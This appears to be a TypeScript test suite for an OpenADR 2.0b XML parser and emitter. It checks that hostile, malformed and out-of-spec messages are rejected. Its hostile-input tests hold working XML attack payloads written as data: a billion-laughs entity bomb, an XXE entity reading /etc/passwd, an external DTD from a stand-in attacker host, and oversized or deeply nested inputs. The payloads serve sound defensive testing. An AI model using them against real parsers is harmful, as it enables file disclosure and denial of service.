import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type ErrorCode, GridseamError } from '@gridseam/model';
import { emitOadr, type OadrMessage, parseOadr } from '../../../src/v2b/codec/index.ts';
import { EXAMPLES } from './examples.ts';

const OADR = 'http://openadr.org/oadr-2.0b/2012/07';
const EI = 'http://docs.oasis-open.org/ns/energyinterop/201110';
const POLL = `<oadr:oadrPayload xmlns:oadr="${OADR}" xmlns:ei="${EI}"><oadr:oadrSignedObject><oadr:oadrPoll><ei:venID>V</ei:venID></oadr:oadrPoll></oadr:oadrSignedObject></oadr:oadrPayload>`;

function refused(input: string | Uint8Array, code: ErrorCode, pattern?: RegExp, path?: string): void {
  assert.throws(
    () => parseOadr(input),
    (e: unknown) => {
      assert.ok(e instanceof GridseamError, String(e));
      assert.equal(e.code, code, e.message);
      if (pattern !== undefined) assert.match(e.message, pattern);
      if (path !== undefined) assert.equal(e.details?.path, path);
      return true;
    },
  );
}

/** The captured plain-HTTP event with one substitution. */
function distributeEventWith(from: string, to: string): string {
  const xml = emitOadr(EXAMPLES.oadrDistributeEvent);
  assert.ok(xml.includes(from), `fixture contains ${from}`);
  return xml.replace(from, to);
}

describe('hostile input is refused before it costs anything', () => {
  test('billion laughs (entity expansion) is GW_ERR_HOSTILE_INPUT', () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
      Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
      `]><oadr:oadrPayload xmlns:oadr="${OADR}"><oadr:oadrSignedObject>&lol9;</oadr:oadrSignedObject></oadr:oadrPayload>`;
    refused(laughs, 'GW_ERR_HOSTILE_INPUT', /markup declarations/);
  });

  test('an external entity (XXE) is GW_ERR_HOSTILE_INPUT', () => {
    refused(
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${POLL.replace('>V<', '>&xxe;<')}`,
      'GW_ERR_HOSTILE_INPUT',
    );
    refused(`<!DOCTYPE oadrPayload SYSTEM "http://attacker.example/x.dtd">${POLL}`, 'GW_ERR_HOSTILE_INPUT');
  });

  test('processing instructions other than the declaration are GW_ERR_HOSTILE_INPUT', () => {
    refused(
      `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?>${POLL}`,
      'GW_ERR_HOSTILE_INPUT',
      /processing instructions/,
    );
  });

  test('a huge attribute is GW_ERR_HOSTILE_INPUT, a huge body GW_ERR_BODY_TOO_LARGE', () => {
    refused(
      POLL.replace('<oadr:oadrPoll>', `<oadr:oadrPoll a="${'x'.repeat(100_000)}">`),
      'GW_ERR_HOSTILE_INPUT',
      /attribute/,
    );
    refused(
      POLL.replace('<oadr:oadrPoll>', `<oadr:oadrPoll a="${'x'.repeat(2 * 1024 * 1024)}">`),
      'GW_ERR_BODY_TOO_LARGE',
    );
    const many = Array.from({ length: 100 }, (_, i) => ` a${i}="1"`).join('');
    refused(POLL.replace('<oadr:oadrPoll>', `<oadr:oadrPoll${many}>`), 'GW_ERR_HOSTILE_INPUT', /attributes/);
    assert.throws(() => parseOadr(new Uint8Array(1024 * 1024 + 1)), { code: 'GW_ERR_BODY_TOO_LARGE' });
    assert.throws(() => parseOadr(POLL, { maxBytes: 100 }), { code: 'GW_ERR_BODY_TOO_LARGE' });
  });

  test('deep nesting is GW_ERR_HOSTILE_INPUT', () => {
    const depth = 10_000;
    refused(
      POLL.replace('<ei:venID>V</ei:venID>', `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}<ei:venID>V</ei:venID>`),
      'GW_ERR_HOSTILE_INPUT',
      /nest/,
    );
  });

  test('the process keeps parsing after hostile input', () => {
    assert.deepEqual(parseOadr(POLL), { type: 'oadrPoll', venID: 'V' });
  });
});

describe('broken XML is GW_ERR_MALFORMED', () => {
  const cases: Array<[string, string]> = [
    ['unclosed element', POLL.slice(0, -10)],
    ['two roots', POLL + POLL],
    ['undefined entity', POLL.replace('>V<', '>&nbsp;<')],
    ['bare ampersand', POLL.replace('>V<', '>A&B<')],
    ['unbound prefix', POLL.replace('<ei:venID>V</ei:venID>', '<x:venID>V</x:venID>')],
    ['forbidden control character', POLL.replace('>V<', '>\u0001<')],
    ['empty body', ''],
    ['not XML', '{"oadrPoll": {}}'],
  ];
  for (const [name, xml] of cases) test(name, () => refused(xml, 'GW_ERR_MALFORMED'));

  test('bytes that are not UTF-8', () => {
    refused(new Uint8Array([0x3c, 0x61, 0xff, 0xfe, 0x3e]), 'GW_ERR_MALFORMED', /UTF-8/);
  });

  test('character references and the predefined entities are decoded', () => {
    assert.deepEqual(parseOadr(POLL.replace('>V<', '>A&amp;B&#x20;&#67;&lt;<')), { type: 'oadrPoll', venID: 'A&B C<' });
    assert.deepEqual(parseOadr(POLL.replace('>V<', '><![CDATA[<V>]]><')), { type: 'oadrPoll', venID: '<V>' });
  });
});

describe('prefixes are free, namespaces and types are not', () => {
  test('any prefix or a default namespace bound to the right URI', () => {
    const defaults = `<oadrPayload xmlns="${OADR}"><oadrSignedObject><oadrPoll><venID xmlns="${EI}">V</venID></oadrPoll></oadrSignedObject></oadrPayload>`;
    assert.deepEqual(parseOadr(defaults), { type: 'oadrPoll', venID: 'V' });
    const odd = `<a:oadrPayload xmlns:a="${OADR}"><a:oadrSignedObject><a:oadrPoll xmlns:a="${EI}" xmlns:b="${OADR}"/></a:oadrSignedObject></a:oadrPayload>`;
    refused(odd, 'GW_ERR_VALIDATION', /unsupported payload/);
    const rebound = `<a:oadrPayload xmlns:a="${OADR}"><a:oadrSignedObject><a:oadrPoll><b:venID xmlns:b="${EI}">V</b:venID></a:oadrPoll></a:oadrSignedObject></a:oadrPayload>`;
    assert.deepEqual(parseOadr(rebound), { type: 'oadrPoll', venID: 'V' });
  });

  test('an element in the wrong namespace does not count, and the error says where it was found', () => {
    refused(
      POLL.replace('<ei:venID>V</ei:venID>', '<oadr:venID>V</oadr:venID>'),
      'GW_ERR_VALIDATION',
      /required element ei:venID is missing \(found <oadr:venID> in namespace "http:\/\/openadr.org\/oadr-2.0b\/2012\/07"/,
      'oadrPoll/venID',
    );
  });

  test('the root must be oadr:oadrPayload and the payload a known one', () => {
    refused(`<oadrPayload xmlns="urn:other">x</oadrPayload>`, 'GW_ERR_VALIDATION', /expected <oadrPayload>/);
    refused(`<oadr:oadrPayload xmlns:oadr="${OADR}"/>`, 'GW_ERR_VALIDATION', /oadrSignedObject is missing/);
    refused(
      `<oadr:oadrPayload xmlns:oadr="${OADR}"><oadr:oadrSignedObject><oadr:oadrFoo/></oadr:oadrSignedObject></oadr:oadrPayload>`,
      'GW_ERR_VALIDATION',
      /unsupported payload <oadr:oadrFoo>/,
    );
  });

  const typeErrors: Array<[string, string, string, string]> = [
    [
      'eventStatus outside the enumeration',
      '<ei:eventStatus>near</ei:eventStatus>',
      '<ei:eventStatus>soon</ei:eventStatus>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eventDescriptor/eventStatus',
    ],
    [
      'NaN payload',
      '<ei:value>0.5</ei:value>',
      '<ei:value>NaN</ei:value>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/intervals/interval[0]/signalPayload/payloadFloat/value',
    ],
    [
      'INF payload',
      '<ei:value>0.75</ei:value>',
      '<ei:value>INF</ei:value>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/intervals/interval[1]/signalPayload/payloadFloat/value',
    ],
    [
      'negative modificationNumber',
      '<ei:modificationNumber>2</ei:modificationNumber>',
      '<ei:modificationNumber>-1</ei:modificationNumber>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eventDescriptor/modificationNumber',
    ],
    [
      'modificationNumber beyond unsignedInt',
      '<ei:modificationNumber>2</ei:modificationNumber>',
      '<ei:modificationNumber>4294967296</ei:modificationNumber>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eventDescriptor/modificationNumber',
    ],
    [
      'duration with a year',
      '<xcal:duration>PT2H</xcal:duration>',
      '<xcal:duration>P1Y</xcal:duration>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiActivePeriod/properties/duration/duration',
    ],
    [
      'date-time with an offset',
      '<xcal:date-time>2026-11-27T12:00:00Z</xcal:date-time>',
      '<xcal:date-time>2026-11-27T12:00:00+01:00</xcal:date-time>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiActivePeriod/properties/dtstart/date-time',
    ],
    [
      'signalType outside the closed enumeration',
      '<ei:signalType>price</ei:signalType>',
      '<ei:signalType>x-price</ei:signalType>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/signalType',
    ],
    [
      'response code of 4 digits',
      '<ei:responseCode>200</ei:responseCode>',
      '<ei:responseCode>2000</ei:responseCode>',
      'oadrDistributeEvent/eiResponse/responseCode',
    ],
    [
      'oadrResponseRequired outside the enumeration',
      '<oadr:oadrResponseRequired>always</oadr:oadrResponseRequired>',
      '<oadr:oadrResponseRequired>sometimes</oadr:oadrResponseRequired>',
      'oadrDistributeEvent/oadrEvent[0]/oadrResponseRequired',
    ],
    [
      'repeated single element',
      '<ei:eventID>event-1</ei:eventID>',
      '<ei:eventID>event-1</ei:eventID><ei:eventID>event-2</ei:eventID>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eventDescriptor/eventID',
    ],
    [
      'missing required element',
      '<ei:eventID>event-1</ei:eventID>',
      '',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eventDescriptor/eventID',
    ],
    [
      'child element where a value belongs',
      '<ei:signalID>signal-price</ei:signalID>',
      '<ei:signalID><b>x</b></ei:signalID>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/signalID',
    ],
    [
      'two payloads in one interval',
      '<ei:signalPayload><ei:payloadFloat><ei:value>0.5</ei:value></ei:payloadFloat></ei:signalPayload>',
      '<ei:signalPayload><ei:payloadFloat><ei:value>0.5</ei:value></ei:payloadFloat></ei:signalPayload><ei:signalPayload><ei:payloadFloat><ei:value>1</ei:value></ei:payloadFloat></ei:signalPayload>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/intervals/interval[0]',
    ],
    [
      'fixed unit changed',
      '<power:itemUnits>W</power:itemUnits>',
      '<power:itemUnits>kW</power:itemUnits>',
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[2]/powerReal/itemUnits',
    ],
  ];
  for (const [name, from, to, path] of typeErrors) {
    test(`${name} is GW_ERR_VALIDATION at ${path.split('/').pop()}`, () => {
      refused(distributeEventWith(from, to), 'GW_ERR_VALIDATION', undefined, path);
    });
  }

  test('unknown elements are ignored', () => {
    const xml = POLL.replace(
      '<ei:venID>V</ei:venID>',
      '<ei:venID>V</ei:venID><ei:vendorThing>1</ei:vendorThing><x:y xmlns:x="urn:x"/>',
    );
    assert.deepEqual(parseOadr(xml), { type: 'oadrPoll', venID: 'V' });
  });
});

describe('the emitter refuses values that do not fit', () => {
  function emitRefused(message: unknown, pattern: RegExp, path?: string): void {
    assert.throws(
      () => emitOadr(message as OadrMessage),
      (e: unknown) => {
        assert.ok(e instanceof GridseamError, String(e));
        assert.equal(e.code, 'GW_ERR_VALIDATION');
        assert.match(e.message, pattern);
        if (path !== undefined) assert.equal(e.details?.path, path);
        return true;
      },
    );
  }
  const event = EXAMPLES.oadrDistributeEvent;
  const firstEvent = event.oadrEvent?.[0];
  assert.ok(firstEvent);

  test('NaN, Infinity and non-numbers', () => {
    const withPayload = (value: unknown) => ({
      ...event,
      oadrEvent: [
        {
          ...firstEvent,
          eiEventSignals: [{ ...firstEvent.eiEventSignals[0], intervals: [{ duration: 60, signalPayload: value }] }],
        },
      ],
    });
    const path =
      'oadrDistributeEvent/oadrEvent[0]/eiEvent/eiEventSignals/eiEventSignal[0]/intervals/interval[0]/signalPayload/payloadFloat/value';
    emitRefused(withPayload(Number.NaN), /not a finite number/, path);
    emitRefused(withPayload(Number.POSITIVE_INFINITY), /not a finite number/, path);
    emitRefused(withPayload('1'), /not a finite number/, path);
  });

  test('missing required values, wrong enumerations, fractional durations', () => {
    emitRefused({ type: 'oadrPoll' }, /required element is missing/, 'oadrPoll/venID');
    emitRefused(
      {
        ...EXAMPLES.oadrCreatedEvent,
        eventResponses: [{ ...EXAMPLES.oadrCreatedEvent.eventResponses?.[0], optType: 'maybe' }],
      },
      /not a valid optType/,
    );
    emitRefused(
      { ...event, oadrEvent: [{ ...firstEvent, eiActivePeriod: { dtstart: 0, duration: 1.5 } }] },
      /not a duration/,
    );
    emitRefused({ ...event, oadrEvent: [{ ...firstEvent, eiEventSignals: [] }] }, /at least 1/);
    emitRefused({ type: 'oadrResponse', eiResponse: { responseCode: 1000, requestID: '' } }, /3-digit/);
    emitRefused({ type: 'oadrPoll', venID: 'bad\u0000char' }, /character XML cannot carry/);
    emitRefused({ type: 'oadrNothing' }, /unknown message type/);
    emitRefused(null, /must be an object/);
  });
});
